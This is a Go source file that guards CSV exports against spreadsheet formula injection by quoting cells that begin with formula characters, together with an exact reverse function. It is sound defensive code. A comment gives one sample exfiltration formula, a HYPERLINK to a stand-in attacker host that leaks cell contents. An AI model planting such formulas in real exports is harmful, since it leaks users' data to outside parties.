package main

import "strings"

// Spreadsheets run a cell that starts with =, +, - or @ as a formula, and
// some also strip a leading tab or carriage return and run what follows.
// A group name such as =HYPERLINK("http://evil.example/?"&A1) would then
// act when someone opened an export. Following OWASP's guidance on CSV
// injection, such a cell is written with a single quote in front, which
// spreadsheets show as text and do not display.
//
// To keep export then apply a no-op, the guard must be undone exactly. So
// a cell that is already quotes followed by a formula character ('=x)
// also gets one more quote, and reading takes exactly one off any cell
// made of one or more quotes and then a formula character. A cell such
// as 'quoted, with no formula character after its quotes, is never
// touched either way.

const formulaStarts = "=+-@\t\r"

// guarded reports whether s is quotes (possibly none) then a formula
// character, which is what the guard adds a quote to.
func guarded(s string) bool {
	rest := strings.TrimLeft(s, "'")
	return rest != "" && strings.ContainsRune(formulaStarts, rune(rest[0]))
}

// guardCell makes a cell safe to open in a spreadsheet.
func guardCell(s string) string {
	if guarded(s) {
		return "'" + s
	}
	return s
}

// unguardCell undoes guardCell.
func unguardCell(s string) string {
	if strings.HasPrefix(s, "'") && guarded(s) {
		return s[1:]
	}
	return s
}
